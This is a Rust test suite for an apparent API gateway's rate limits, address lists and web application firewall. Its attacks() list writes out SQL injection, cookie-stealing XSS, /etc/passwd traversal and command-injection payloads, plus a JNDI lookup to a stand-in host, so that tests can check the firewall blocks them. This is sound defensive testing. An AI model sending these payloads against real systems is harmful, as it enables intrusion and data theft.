//! Who may pass: token buckets, address lists, the WAF, each enforced and in dry run.

use std::net::Ipv4Addr;
use std::thread;

use tidegate_testkit::client::get;
use tidegate_testkit::{Ask, Connection, Gateway, Nginx, Origin, Reply, Response, needs};

use crate::{assert_problem, with_policy};

const OTHER: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);

/// `GET /` from another loopback address.
#[track_caller]
fn get_from(source: Ipv4Addr, gateway: &Gateway) -> Response {
    Ask::new("GET", "/").send_on(&mut Connection::open_from(source, gateway.address()))
}

#[test]
fn a_client_over_its_rate_is_told_when_to_come_back() {
    let origin = Origin::start(Reply::ok("ok"));
    let gateway =
        with_policy(origin.address(), "{ rate_limit: { key: client_ip, rate: 1/m, burst: 3 } }");
    for _allowed in 0..3 {
        let response = get(gateway.address(), "/");
        assert_eq!(response.status, 200);
        assert!(response.header("ratelimit").is_some(), "{:?}", response.fields);
        assert!(response.header("ratelimit-policy").is_some(), "{:?}", response.fields);
    }
    let refused = get(gateway.address(), "/");
    assert_problem(&refused, 429, "rate_limited");
    let retry_after: u32 =
        refused.header("retry-after").expect("RFC 6585 §4").parse().expect("seconds");
    assert!((1..=60).contains(&retry_after), "{retry_after}");
    assert!(refused.header("ratelimit").is_some_and(|value| value.contains("r=0")));
    assert_eq!(get_from(OTHER, &gateway).status, 200, "another client has its own bucket");
    assert_eq!(origin.received().len(), 4);
}

#[test]
fn a_bucket_is_exact_under_concurrency() {
    needs!("nginx");
    let pod = Nginx::pod("ok");
    let gateway =
        with_policy(pod.address(), "{ rate_limit: { key: client_ip, rate: 1/h, burst: 100 } }");
    let address = gateway.address();
    let clients: Vec<_> = (0..8)
        .map(|_client| {
            thread::spawn(move || (0..25).filter(|_| get(address, "/").status == 200).count())
        })
        .collect();
    let allowed: usize = clients.into_iter().map(|client| client.join().expect("a client")).sum();
    assert_eq!(allowed, 100);
}

#[test]
fn a_dry_run_limits_nobody_and_says_whom_it_would() {
    let origin = Origin::start(Reply::ok("ok"));
    let policy = "{ rate_limit: { key: client_ip, rate: 1/h, burst: 1, dry_run: true } }";
    let gateway = with_policy(origin.address(), policy);
    for _request in 0..5 {
        assert_eq!(get(gateway.address(), "/").status, 200);
    }
    gateway.logged(|line| line.to_string().contains("dry_run"));
}

#[test]
fn a_header_keys_a_bucket_and_a_missing_one_is_not_unlimited() {
    let origin = Origin::start(Reply::ok("ok"));
    let policy = "{ rate_limit: { key: { header: x-api-key }, rate: 1/h, burst: 1 } }";
    let gateway = with_policy(origin.address(), policy);
    let ask = |key: &str| Ask::new("GET", "/").field("X-Api-Key", key).send(gateway.address());
    assert_eq!(ask("a").status, 200);
    assert_eq!(ask("a").status, 429);
    assert_eq!(ask("b").status, 200);
    assert_eq!(get(gateway.address(), "/").status, 200);
    assert_eq!(get(gateway.address(), "/").status, 429);
}

#[test]
fn address_lists_admit_and_refuse() {
    let origin = Origin::start(Reply::ok("ok"));
    let deny = with_policy(origin.address(), "{ deny: [127.0.0.2/32] }");
    assert_eq!(get(deny.address(), "/").status, 200);
    assert_problem(&get_from(OTHER, &deny), 403, "address_denied");
    let allow = with_policy(origin.address(), "{ allow: [127.0.0.2] }");
    assert_problem(&get(allow.address(), "/"), 403, "address_denied");
    assert_eq!(get_from(OTHER, &allow).status, 200);
}

/// Attacks as they come: in the query, a header, a cookie, and each kind of body.
fn attacks() -> Vec<(&'static str, Ask)> {
    let multipart = "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n\
                     <script>alert(document.cookie)</script>\r\n--b--\r\n";
    let form = "application/x-www-form-urlencoded";
    let post = |kind: &str, body: &str| {
        Ask::new("POST", "/").field("Content-Type", kind).body(body.to_owned())
    };
    vec![
        ("sql", Ask::new("GET", "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20-")),
        (
            "sql, twice encoded",
            Ask::new("GET", "/?id=1%2527%20UNION/**/SELECT%20a,b%20FROM%20users--"),
        ),
        ("xss", Ask::new("GET", "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E")),
        ("traversal", Ask::new("GET", "/?file=../../../../etc/passwd")),
        ("command", Ask::new("GET", "/?host=127.0.0.1;cat%20/etc/passwd")),
        ("lookup", Ask::new("GET", "/").field("User-Agent", "${jndi:ldap://evil.test/a}")),
        (
            "cookie",
            Ask::new("GET", "/").field("Cookie", "a=1' OR '1'='1' UNION SELECT 1,2 FROM users-- -"),
        ),
        ("form", post(form, "user=admin'%20UNION%20SELECT%20password%20FROM%20users--%20-")),
        (
            "json",
            post("application/json", r#"{"a":{"b":["1' UNION SELECT password FROM users-- -"]}}"#),
        ),
        ("multipart", post("multipart/form-data; boundary=b", multipart)),
    ]
}

#[test]
fn attacks_are_refused_and_the_client_learns_nothing_of_the_rules() {
    let origin = Origin::start(Reply::ok("ok"));
    let gateway = with_policy(origin.address(), "{ waf: { mode: block } }");
    for (name, ask) in attacks() {
        let response = ask.send(gateway.address());
        assert_eq!(response.status, 403, "{name}: {}", response.text());
        assert_problem(&response, 403, "waf_blocked");
        assert!(!response.text().contains("rule"), "{}", response.text());
    }
    assert!(origin.received().is_empty(), "{:?}", origin.received());
    let line = gateway.logged(|line| line["reason"] == "waf_blocked");
    assert!(line.to_string().contains("\"score\""), "{line}");
}

#[test]
fn ordinary_requests_pass_the_firewall_unchanged() {
    let origin = Origin::script(|request| Reply::ok(request.body.clone()));
    let gateway = with_policy(origin.address(), "{ waf: { mode: block } }");
    let json = r#"{"name":"O'Brien & Söhne","note":"select the best from our union","n":[1,2]}"#;
    let long = "a lot of harmless text. ".repeat(2_000);
    for (kind, body) in [
        ("application/json", json.to_owned()),
        ("application/x-www-form-urlencoded", "q=union+jack&note=it%27s+fine".to_owned()),
        ("text/plain", long),
    ] {
        let ask = Ask::new("POST", "/search?q=select%20a%20colour")
            .field("Content-Type", kind)
            .body(body.clone());
        let response = ask.send(gateway.address());
        assert_eq!((response.status, response.text()), (200, body), "{kind}");
    }
}

#[test]
fn detection_lets_pass_and_writes_down() {
    let origin = Origin::start(Reply::ok("ok"));
    let gateway = with_policy(origin.address(), "{ waf: { mode: detect } }");
    for (name, ask) in attacks() {
        assert_eq!(ask.send(gateway.address()).status, 200, "{name}");
    }
    gateway.logged(|line| line.to_string().contains("\"score\""));
}

#[test]
fn an_attack_beyond_the_inspected_part_of_a_body_does_not_slip_through_by_default() {
    let origin = Origin::start(Reply::ok("ok"));
    let gateway = with_policy(origin.address(), "{ waf: { mode: block }, max_body: 10MiB }");
    let mut body = "pad=".to_owned() + &"x".repeat(2 << 20);
    body.push_str("&q=<script>alert(document.cookie)</script>");
    let ask =
        Ask::new("POST", "/").field("Content-Type", "application/x-www-form-urlencoded").body(body);
    let mut connection = Connection::open(gateway.address());
    connection.try_send(&ask.bytes()).ok();
    if let Ok(response) = connection.try_response() {
        assert!(matches!(response.status, 403 | 413), "{}", response.status);
    }
}
